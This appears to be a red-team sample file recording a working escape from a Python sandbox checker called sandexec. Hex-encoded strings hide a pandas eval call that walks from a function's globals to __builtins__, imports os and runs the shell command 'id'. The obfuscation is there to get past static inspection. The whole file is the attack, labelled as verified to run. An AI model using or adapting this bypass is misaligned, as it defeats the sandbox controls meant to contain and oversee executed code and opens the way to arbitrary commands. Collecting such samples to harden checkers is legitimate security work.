# Source: black-box attack on sandexec's check, 2026-11-26; family: pandas name dispatch with keywords computed at run time
# Verified to run in sandexec-python:bookworm when unchecked.
import pandas as pd
def s(h):
    return bytes.fromhex(h).decode()
def f():
    pass
df = pd.DataFrame({"a": [1, 2]})
kw = {"expr": s("40662e5f5f676c6f62616c735f5f5b275f5f6275696c74696e735f5f275d2e5f5f696d706f72745f5f28276f7327292e73797374656d282769643b206563686f2050414e4441532d4556414c2729"), "engine": "python", s("6c6f63616c5f64696374"): {"f": f}}
print(df.apply(s("6576616c"), **kw))
